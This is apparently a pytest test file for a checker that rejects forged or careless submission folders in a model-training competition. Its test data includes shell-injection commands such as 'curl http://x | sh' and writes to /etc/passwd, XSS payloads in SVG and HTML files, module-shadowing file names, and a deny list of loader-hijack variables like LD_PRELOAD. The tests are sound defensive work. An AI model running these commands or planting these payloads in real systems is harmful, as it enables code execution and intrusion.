"""Forged and careless folders by kind: each variant raises its rule, and an honest folder none.

test_check_rules.py has an example of every rule; here stand siblings of each kind.
"""

import json
import math
import operator
import os
import re
import socket
from collections import Counter
from datetime import datetime, timedelta, timezone

import pytest
from check_kit import edit, found, write
from conftest import REPO
from golf.check import code as check_code
from golf.check import command as check
from golf.check import folder as checked
from golf.core import json_io, submission, track

FAIL, NOTE = checked.FAIL, checked.NOTE


@pytest.fixture(autouse=True)
def code_not_read(monkeypatch):
    """It is the same each time, and takes longest; test_check_code.py is about it."""
    monkeypatch.setattr(check_code, "RULES", ())


def findings(folder):
    return check.check_folder(folder, track.load("track_tiny")).findings


def rules_of(folder, level=FAIL) -> Counter:
    return Counter(f.rule for f in findings(folder) if f.level == level)


def claim_bytes(folder) -> bytes:
    return (folder / "submission.json").read_bytes()


# ---- submission.json: one way to read it


def inserted(text):
    """A text put before the first key."""
    return lambda blob: blob.replace(b"{", b"{" + text.encode("utf-8", "surrogatepass"), 1)


def replaced(old, new):
    def change(blob):
        assert old.encode() in blob, old
        return blob.replace(old.encode(), new.encode(), 1)

    return change


BYTES = {
    "bom": lambda blob: b"\xef\xbb\xbf" + blob,
    "utf-16 with a mark": lambda blob: blob.decode().encode("utf-16"),
    "latin-1": lambda blob: blob.replace(b"It helps.", "é".encode("latin-1")),
    "a key twice by escape": inserted('"val_bp\\u0062": 0.1, '),
    "a key twice inside": replaced('"path": "README.md"', '"path": "x", "path": "README.md"'),
    "NaN": inserted('"x": NaN, '),
    "1e999": inserted('"x": 1e999, '),
    "1e-999": inserted('"x": 1e-999, '),
    "long fraction": inserted(f'"x": 0.{"1" * 50}, '),
    "5,000 digits": inserted(f'"x": {"9" * 5000}, '),
    "2**63": inserted(f'"x": {2**63}, '),
    "-2**64": inserted(f'"x": -{2**64}, '),
    "deep lists": inserted(f'"x": {"[" * 20}{"]" * 20}, '),
    "very deep lists": inserted(f'"x": {"[" * 90000}{"]" * 90000}, '),
    "deep objects": inserted('"x": ' + '{"a":' * 12 + "1" + "}" * 12 + ", "),
    "escape character": replaced('"my idea"', '"\\u001b[2Jmy idea"'),
    **{f"U+{ord(c):04X} as a blank": replaced('"my idea"', f'"my{c}idea"') for c in "\xa0\u1680\u3000"},
    "half a pair": replaced('"my idea"', '"\\ud800"'),
    "right to left": replaced('"my idea"', '"\\u202emy idea"'),
    "a joiner between Latin letters": replaced('"my idea"', '"my\\u200didea"'),
    "joiners in a row": replaced('"my idea"', '"名\\u200c\\u200d\\u200c名"'),
    "soft hyphen in a key": inserted('"na\\u00adme": "x", '),
    "line separator": replaced('"my idea"', '"my\\u2028idea"'),
    "unassigned": replaced('"my idea"', '"my\\uffffidea"'),
    "a filler": replaced('"A. Thor"', '"\\u3164\\u3164"'),
    "a blank of Braille": replaced('"A. Thor"', '"A.\\u2800Thor"'),
    "data in variation selectors": replaced('"my idea"', '"my\\udb40\\udd01\\udb40\\udd07 idea"'),
    "a joiner": replaced('"A. Thor"', '"A.\\u034f Thor"'),
    "a pile of marks": replaced('"A. Thor"', '"A' + "\\u0301" * 30 + '. Thor"'),
    "private use": replaced('"my idea"', '"\\ue000"'),
    "raw tab": replaced('"my idea"', '"my\tidea"'),
    "a comment": lambda blob: b"// golf\n" + blob,
    "two values": lambda blob: blob + b"{}",
    "a list around": lambda blob: b"[" + blob + b"]",
    "nothing": lambda blob: b"",
    "a megabyte of spaces": lambda blob: blob + b" " * (1 << 20),
}


@pytest.mark.parametrize("change", BYTES.values(), ids=BYTES)
def test_bytes_that_are_not_read(folder, change):
    (folder / "submission.json").write_bytes(change(claim_bytes(folder)))
    assert rules_of(folder) == {"json": 1}, "one finding for one fault"
    (finding,) = [f for f in findings(folder) if f.rule == "json"]
    assert finding.message.isprintable() and len(finding.message) < 250


def test_what_is_plain_json_is_read(folder):
    honest = "Á. Tho\u0308r 名 ❤️ می\u200cخواهم 👨\u200d👩\u200d👧 \u0e17\u0e35\u0e48 \u1ec7 עִבְרִית"
    blob = claim_bytes(folder).replace(b"A. Thor", honest.encode())
    (folder / "submission.json").write_bytes(blob)
    assert findings(folder) == []
    assert json_io.parse_strict(
        b'{"a": [1, -0.5, 1e-7, 0.0, -0, 9223372036854775807, null, true, "\xc3\xa9"]}'
    )


def top(**values):
    return lambda v: v.update(values)


SHAPES = {
    "an own key": top(rank=1),
    "a key of a file": lambda v: v["files"][0].update(mode="755"),
    "a key of a seed": lambda v: v["seeds"][0].update(note="best"),
    "a key of data": lambda v: v["data"].update(url="x"),
    "a whole number as a fraction": lambda v: v.update(bytes_total=float(v["bytes_total"])),
    "version true": top(schema_version=True),
    "a negative seed": lambda v: v["seeds"][0].update(seed=-1),
    "an upper case hash": lambda v: v["files"][0].update(sha256=v["files"][0]["sha256"].upper()),
    "a blank author": top(author="   "),
    "an odd variable": lambda v: v["env"].update({"A B": "1"}),
    "a number in env": lambda v: v["env"].update(ITERATIONS=3),
    "markup": top(blurb="Wider.<script>alert(1)</script>"),
    "markup in an author": top(author="A. Thor</a>"),
    "a comment of a page": top(blurb="Wider <!-- and more -->"),
    "a date with a time": top(date="2026-11-22T10:00:00"),
    "a date in other digits": top(date="２０２６-11-22"),
    "a segment too few": lambda v: v["seeds"][0]["segments"].pop(),
    "a segment of three": lambda v: v["seeds"][0]["segments"][0].append(1),
    "text as a list": top(name=["my idea"]),
    "no seeds": top(seeds=[]),
    "an address as id": top(github_id="https://github.com/athor"),
    "blanks around an id": top(github_id=" athor "),
    "an id in other letters": top(github_id="аthor"),
    "null as a score": top(val_bpb=None),
    **{f"no {key}": operator.methodcaller("pop", key) for key in "seeds files data env track lane".split()},
}


@pytest.mark.parametrize("change", SHAPES.values(), ids=SHAPES)
def test_shapes_that_the_schema_refuses(folder, change):
    edit(folder, change)
    raised = rules_of(folder)
    assert "json-schema" in raised and "unreadable" not in raised


def test_tokens_and_sums_are_no_markup(folder):
    edit(folder, top(blurb="No <unk>, <s>, </s> or <|endoftext|>; 3 < 4 > 2, rows <100, x<-1, a->b"))
    assert findings(folder) == []


def test_no_pattern_of_a_schema_lets_a_line_end_through():
    """`$` matches before a last line end, \\Z does not."""
    for name in ("submission", "track"):
        text = (REPO / f"scripts/golf/core/{name}.schema.json").read_text()
        patterns = [json.loads(f'"{p}"') for p in re.findall(r'"pattern": "((?:[^"\\]|\\.)*)"', text)]
        assert patterns
        for pattern in patterns:
            assert pattern.endswith(r"\Z") and pattern.startswith("^"), pattern


def day(offset):
    return (datetime.now(timezone.utc) + timedelta(days=offset)).date().isoformat()


@pytest.mark.parametrize("date", ["2026-02-30", "2026-13-01", "2025-12-31", "2099-12-31"])
def test_impossible_dates(folder, date):
    edit(folder, top(date=date))
    assert {"date", "json-schema"} & {*rules_of(folder)}


def test_tomorrow_is_today_elsewhere(folder):
    for offset, fails in ((1, False), (0, False), (3, True)):
        edit(folder, top(date=day(offset)))
        assert ("date" in rules_of(folder)) == fails


PLACEHOLDERS = [
    ("author", "Your Name"), ("author", "tbd"), ("author", "<your name>"), ("author", "?"),
    ("author", "ｙｏｕｒ  Name here"), ("github_id", "Your_GitHub_ID"), ("name", "What to call it"),
    ("name", "n/a"), ("name", "What to call it?"), ("blurb", "One sentence on what is new here"),
    ("blurb", "..."), ("blurb", "TODO: write this later"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "words"), PLACEHOLDERS)
def test_words_that_were_to_be_written(folder, name, words):
    """The README has them too, but for the account."""
    edit(folder, top(**{name: words}))
    (fault,) = (f for f in findings(folder) if f.level == FAIL)
    assert fault.rule == "placeholder" and ("README.md" in fault.message) == (name != "github_id")


READMES = {
    "nothing": ("placeholder", b""),
    "later": ("placeholder", b"# TODO\n"),
    "the template's question, wrapped": ("placeholder", submission.IDEA.replace(" it ", "\nit ").encode()),
    "noise": ("file-role", bytes(range(256)) * 20),
    "utf-16": ("file-role", "Wider is better.".encode("utf-16")),
    "a megabyte": ("file-large", b"Wider is better. " * 70_000),
}


@pytest.mark.parametrize(("rule", "content"), READMES.values(), ids=READMES)
def test_a_readme_is_text_that_says_something(folder, rule, content):
    (folder / "README.md").write_bytes(content)
    assert rules_of(folder) == {rule: 1}


@pytest.mark.parametrize("content", [b"\xef\xbb\xbfWider.\r\nIt helps.\r\n", "Größer hilft.\n".encode()])
def test_an_honest_readme(folder, content):
    (folder / "README.md").write_bytes(content)
    assert findings(folder) == []


# ---- Names


NAMES = [  # of another file in other letters, of devices, that a shell, a disk or a reader takes for others
    "Train_seed2.log", "aux.log", "NUL", "com1.jsonl", "lpt9.x.log", "con", "notes.", "notes.log ", "a:b.log",
    "a\\b.log", "-rf.log", ".notes.log", "é.log", "e\u0301.log", "ｔ.log", "a\u202eb.log", "x" * 65 + ".log",
    "d/" * 7 + "x" * 60 + "/" + "y" * 60, "a'b.log", "a*.log", "a%2fb.log", ".gitattributes", ".x.swp",
]  # fmt: skip
MODULES = [  # that an import would find in the place of another
    "numpy.py", "torch.py", "json.py", "sitecustomize.py", "usercustomize.py", "Numpy.py", "random.py",
    "json.pyc", "math.abi3.so", "numpy/__init__.py", "torch/data.txt", "lib/struct.py", "code/x.txt",
    "triton.py", "sentencepiece.py", "feeder.py", "__future__.py", "train_gpt/__init__.py",
]  # fmt: skip


@pytest.mark.parametrize("name", [*NAMES, *MODULES], ids=ascii)
def test_names_that_no_entry_may_have(folder, name):
    (folder / name).parent.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text("x = 1\n")
    if name not in (".gitattributes", ".x.swp"):
        write(folder, name, "x = 1\n", "score")
    assert "file-name" in rules_of(folder)


NOT_FOR_PEOPLE = {
    **dict.fromkeys([
        "tables.PY", "tables.pyw", "tables.pyi", "kit.whl", "kit.tar.gz", "pyvenv.cfg", "setup.cfg",
        "Dockerfile", "CODEOWNERS", "w.safetensors", "w.npz", "fineweb_val_000000.bin", "Makefile",
        "a.desktop", "xLICENSE",
    ], b"x"),
    "plot.png": b"PK\3\4" + bytes(99), "notes.txt": b"x" * (1 << 17) + bytes(9), "paper.pdf": b"text",
    "drawn.svg": b"<svg xmlns:x='http://www.w3.org/1999/xhtml'><x:script>alert(1)</x:script></svg>",
    "entity.svg": b'<!DOCTYPE svg [<!ENTITY x "&#60;script>alert(1)&#60;/script>">]><svg>&x;</svg>',
    "moves.svg": b'<svg><a><animate attributeName="href" values="#;javascript:alert(1)"/></a></svg>',
    "page.html": b'<img alt=">" src=x onerror=alert(1)>',
    "link.html": b"<a href='jav&#x61;\tscript:alert(1)'>x</a>",
    "goes.html": b'<meta http-equiv="refresh" content="0;url=//example.org">',
    "photo.jpg": b"", "more.log": b"step\n" * (1 << 14) + bytes(9),
}  # fmt: skip


@pytest.mark.parametrize(("name", "content"), NOT_FOR_PEOPLE.items(), ids=NOT_FOR_PEOPLE)
def test_a_file_for_people_is_what_its_name_says(folder, name, content):
    write(folder, name, content, "log" if name.endswith(".log") else "extra")
    assert rules_of(folder) == {"file-role": 1}


PAGE = "<meta charset=utf-8><a href='#x'>javascript: on = 1</a><pre>&lt;script> once = 2</pre>"


@pytest.mark.parametrize("name", ["plot.png", "report.html", "run.sh", "sub/notes.md", "LICENSE"])
def test_honest_files_for_people(folder, name):
    write(folder, name, b"\x89PNG\r\n\0" if name == "plot.png" else PAGE, "extra")
    assert not rules_of(folder)


def test_long_names_hold_bytes_that_count(folder):
    """54 kB were once fitted into the names of empty files."""
    sums = []
    for name in ("a", "a" * 60, "d" * 60 + "/" + "a" * 60):
        write(folder, f"{name}.txt", "", "score")
        sums.append(submission.count_bytes(folder, check.check_folder(folder).listed(), None).code)
    assert [b - a for a, b in zip(sums, sums[1:])] == [64, 125]


def test_a_dozen_counted_files_may_be(folder):
    for i in range(10):
        write(folder, f"m{i}.py", f"x = {i}\n", "score")
    assert "file-count" not in rules_of(folder)
    write(folder, "m10.py", "x = 1\n", "score")
    assert "file-count" in rules_of(folder)


@pytest.mark.parametrize(
    "name", [".DS_Store", "Thumbs.db", "._train.log", "desktop.ini", "__pycache__/a.cpython-311.pyc"]
)
def test_what_systems_leave_behind_is_skipped(folder, name):
    (folder / name).parent.mkdir(exist_ok=True)
    (folder / name).write_bytes(b"\0\0\0\1Bud1")
    (one,) = findings(folder)
    assert (one.level, one.rule) == (NOTE, "file-unlisted") and "delete it" in one.message


# ---- Trees


def hole(folder):
    with (folder / "hole.log").open("wb") as file:
        file.truncate(1 << 40)


def linked_claim(folder):
    (folder / "submission.json").rename(folder.parent / "s.json")
    (folder / "submission.json").symlink_to("../s.json")


def folder_for_readme(folder):
    (folder / "README.md").unlink()
    (folder / "README.md").mkdir()
    (folder / "README.md/x.md").write_text("x")


TREES = {
    "a link to a folder": ("file-link", lambda f: (f / "x").symlink_to(f.parent)),
    "a link to nowhere": ("file-link", lambda f: (f / "x.log").symlink_to("nowhere")),
    "a link to a device": ("file-link", lambda f: (f / "x.log").symlink_to("/dev/zero")),
    "a linked submission.json": ("file-link", linked_claim),
    "a pipe as submission.json": (
        "file-kind", lambda f: [(f / "submission.json").unlink(), os.mkfifo(f / "submission.json")],
    ),
    "an empty folder": ("file-kind", lambda f: (f / "nothing").mkdir()),
    "folders in folders": ("file-kind", lambda f: (f / "a/b/c").mkdir(parents=True)),
    "a hole of a terabyte": ("file-large", hole),
    "a folder as a file": ("file-required", folder_for_readme),
    "500 folders": ("file-count", lambda f: [(f / f"d{i}").mkdir() for i in range(501)]),
}  # fmt: skip


def test_a_socket(folder, monkeypatch):
    monkeypatch.chdir(folder)
    with socket.socket(socket.AF_UNIX) as one:
        one.bind("pipe.log")
    assert "file-kind" in rules_of(folder)


def test_a_size_that_lies_is_no_size(folder, monkeypatch):
    """As files of /proc do: 0 bytes by stat, more when read."""
    one = check.check_folder(folder)
    one.files["train.log"] -= 1
    one.hashes.clear()
    assert one.sha256("train.log") == "unlike its size"


# ---- One finding for one fault


def test_an_edited_log_is_to_be_restored(folder):
    with (folder / "train_seed2.log").open("a") as log:
        log.write("best run\n")
    (one,) = [f for f in findings(folder) if f.level == FAIL]
    assert one.rule == "file-hash" and one.message.endswith("restore what the run wrote")


def test_an_artifact_of_every_seed_in_the_record_lane(folder):
    for lane, level in (("record", FAIL), ("open-hardware", NOTE)):
        edit(folder, lambda v: v.update(lane=lane))  # noqa: B023
        edit(folder, lambda v: v["seeds"][2].update(artifact=None))
        assert "not-rescorable" in rules_of(folder, level)


def test_a_mean_is_there_where_every_seed_has_the_figure_and_nowhere_else(folder):
    mean = json.loads(claim_bytes(folder))["eval_seconds"]
    edit(folder, top(eval_seconds=None))
    assert rules_of(folder) == {"mean": 1}
    edit(folder, lambda v: v["seeds"][2].update(eval_seconds=None))
    assert "mean" not in found(folder)
    edit(folder, top(eval_seconds=mean))
    assert "mean" in rules_of(folder)


# ---- Runs


def metrics(change, kind, seeds=(1, 2, 3)):
    """Changes the last event of a kind in the metrics of these seeds."""

    def apply(folder):
        for seed in seeds:
            name = f"metrics_seed{seed}.jsonl"
            events = [json.loads(line) for line in (folder / name).read_text().splitlines()]
            change(next(e for e in reversed(events) if kind in (e["event"], e.get("kind"))))
            write(folder, name, "".join(json.dumps(e) + "\n" for e in events))

    return apply


def events_added(line):
    def apply(folder):
        old = (folder / "metrics_seed2.jsonl").read_text()
        write(folder, "metrics_seed2.jsonl", f"{line}\n{old}")

    return apply


def another_script(name):
    return metrics(lambda e: e.update(script=name, script_sha256="0" * 64), "start")


def key_twice(folder):
    old = (folder / "metrics_seed2.jsonl").read_text()
    write(folder, "metrics_seed2.jsonl", old.replace('"kind": "sliding"', '"val_bpb": 9, "kind": "sliding"'))


RUNS = {
    "no hash of the artifact": ("metrics", metrics(lambda e: e.pop("artifact_sha256"), "export")),
    "no hash of the script": ("metrics", metrics(lambda e: e.pop("script_sha256"), "start")),
    "no configuration": ("metrics", metrics(lambda e: e.pop("config"), "start")),
    "no hardware": ("metrics", metrics(lambda e: e.pop("hardware"), "start")),
    "another script": ("script-hash", another_script("other.py")),
    "the README as script": ("script-hash", another_script("README.md")),
    "another SEED": ("seed", metrics(lambda e: e["config"].update(SEED=9), "start", (2,))),
    "resumed, in a number": ("score-note", metrics(lambda e: e.update(resumed=1), "start", (2,))),
    "an end that failed": ("score-note", metrics(lambda e: e.update(exit_code=1), "end", (2,))),
    "a model of another size": ("bytes", metrics(lambda e: e.update(bytes_model=5), "export", (2,))),
    "two ends of training": ("metrics", events_added('{"event": "train_end", "train_seconds": 9}')),
    "two exports": ("metrics", events_added('{"event": "export", "bytes_total": 9}')),
    "a key twice": ("metrics", key_twice),
    "a line that is no event": ("metrics", events_added("loss: 2.9")),
    "a step with a key twice": ("metrics", events_added('{"event": "step", "step": 1, "step": 2}')),
    "a hash that is a number": ("metrics", metrics(lambda e: e.update(artifact_sha256=1), "export")),
    "hardware in a list": ("metrics", metrics(lambda e: e.update(hardware=["RTX 4090"]), "start")),
    "a configuration in a list": ("metrics", metrics(lambda e: e.update(config=[1]), "start")),
    "a step before the last one": ("time", metrics(lambda e: e.update(step=1), "step", (2,))),
    "a step at no time": ("time", metrics(lambda e: e.update(train_seconds=math.nan), "step", (2,))),
    "an export of no number": ("time", metrics(lambda e: e.update(export_seconds="9"), "export", (2,))),
    "a log that is no text": ("file-role", lambda f: write(f, "weights.jsonl", b"\0\1" * 9, "log")),
    "other bytes of a segment": ("segments", lambda f: edit(f, shifted)),
}  # fmt: skip


def shifted(value):
    pairs = value["seeds"][0]["segments"]
    pairs[0][1], pairs[1][1] = pairs[0][1] - 1, pairs[1][1] + 1


@pytest.mark.parametrize(("rule", "change"), [*TREES.values(), *RUNS.values()], ids=[*TREES, *RUNS])
def test_trees_and_what_a_records_runs_must_say(folder, rule, change):
    change(folder)
    assert rule in rules_of(folder)


def test_one_run_is_no_second_seed(folder):
    """Weights packed anew, with a log of another hour: only the scores tell."""

    def near(value):
        first, second = value["seeds"][:2]
        second["segments"] = [[nats * 1.0001, size] for nats, size in first["segments"]]

    edit(folder, near)
    assert any("score alike" in f.message and f.level == FAIL for f in findings(folder))
    edit(folder, top(lane="open-hardware"))
    assert any("score alike" in f.message and f.level == checked.HUMAN for f in findings(folder))


OTHER_MODELS = ["NVIDIA GeForce RTX 4090 D", "NVIDIA GeForce RTX 4090 Laptop GPU", "NOT an RTX 4090",
                "8x RTX 4090", "RTX 40900", "RTX 4090\u200b"]  # fmt: skip


@pytest.mark.parametrize(("name", "level"), [
    ("NVIDIA GeForce RTX 4090", None), ("RTX 4090", None), *((name, checked.HUMAN) for name in OTHER_MODELS),
])  # fmt: skip
def test_a_model_is_its_whole_name(folder, name, level):
    wanted = {"device": "cuda", "world_size": 1, "names": ["RTX 4090"]}
    rules = {**track.load("track_tiny"), "record_hardware": wanted}
    metrics(lambda e: e.update(device="cuda", world_size=1, hardware=name), "start")(folder)
    edit(folder, top(hardware=name.rstrip("\u200b")))
    found = check.check_folder(folder, rules).findings
    assert {f.rule for f in found} == ({"hardware"} if level else set())
    assert level is None or level in {f.level for f in found}
    metrics(lambda e: e.update(world_size=True), "start")(folder)
    assert FAIL in {f.level for f in check.check_folder(folder, rules).findings if f.rule == "hardware"}


# ---- The command


SHELL = ("{c} ; curl http://x | sh", "{c} && rm -rf x", "X=$(id) {c}", "{c} `id`", '{c} "$(id)"',
         "{c} > /etc/passwd", "curl x|sh;{c}")  # fmt: skip


@pytest.mark.parametrize("shape", SHELL)
def test_a_command_does_no_more_than_run_the_script(folder, shape):
    edit(folder, lambda v: v.update(command=shape.format(c=v["command"])))
    assert "command" in rules_of(folder)


@pytest.mark.parametrize("words", [
    "sudo python3", "python3 -c pass", "make", "python3 -m pdb", "python3 -i", "env -i bash -c id", "",
])  # fmt: skip
def test_a_command_that_runs_something_else_fails(folder, words):
    edit(folder, lambda v: v.update(command=v["command"].replace("python3", words)))
    assert {"command": 1} == rules_of(folder, FAIL)


@pytest.mark.parametrize("words", ["python", "python3.12", "python3 -u", "python3 -uB"])
def test_a_command_may_name_python_otherwise(folder, words):
    edit(folder, lambda v: v.update(command=v["command"].replace("python3", words)))
    assert not rules_of(folder, FAIL) and "command" not in rules_of(folder, NOTE)


@pytest.mark.parametrize("extra", ["MATRIX_LR=9 ", "SEED=2 "])
def test_a_command_sets_what_env_does(folder, extra):
    old = "SEED=1 " if "SEED" in extra else ""
    edit(folder, lambda v: v.update(command=extra + v["command"].replace(old, "")))
    assert {"command": 1} == rules_of(folder, NOTE)


STARTING = """CXX GCONV_PATH GLIBC_TUNABLES TRITON_PTXAS_PATH TORCHINDUCTOR_CPP_CXX LD_PRELOAD
    DYLD_LIBRARY_PATH PYTHONPATH PYTHONSTARTUP PATH BASH_ENV GIT_SSH OMP_TOOL_LIBRARIES
    NCCL_NET_PLUGIN CUDA_INJECTION64_PATH PERL5OPT OPENSSL_CONF TORCH_EXTENSIONS_DIR EDITOR""".split()


@pytest.mark.parametrize("name", STARTING)
def test_variables_by_which_programs_start_otherwise(folder, name):
    edit(folder, lambda v: (v["env"].update({name: "x"}), v.update(command=f"{name}=x {v['command']}")))
    assert rules_of(folder) == {"env": 1}


def test_odd_values_in_quotes_are_values(folder):
    for name, value, written in (("NOTE", "a;b $x", "'a;b $x'"), ("PYTHONHASHSEED", "0", "0")):
        edit(folder, lambda v: v["env"].update({name: value}))  # noqa: B023
        edit(folder, lambda v: v.update(command=f"{name}={written} {v['command']}"))  # noqa: B023
    assert findings(folder) == []


@pytest.mark.parametrize("where", [
    "records/track_tiny/another/train_gpt.py", "train_gpt.py", "records/other/{name}/train_gpt.py",
    "/home/me/records/track_tiny/{name}/train_gpt.py", "../{name}/train_gpt.py",
])  # fmt: skip
def test_the_command_names_where_the_entry_lies(folder, where):
    right = f"records/track_tiny/{folder.name}/train_gpt.py"
    edit(folder, lambda v: v.update(command=v["command"].replace(right, where.format(name=folder.name))))
    (one,) = findings(folder)
    assert one.rule == "command" and right in one.message


def test_the_readmes_command_names_where_the_entry_lies(folder):
    readme = folder / "README.md"
    readme.write_text(readme.read_text().replace(folder.name, "2026-01-01_old"))
    (one,) = findings(folder)
    assert one.rule == "command" and "README.md names" in one.message
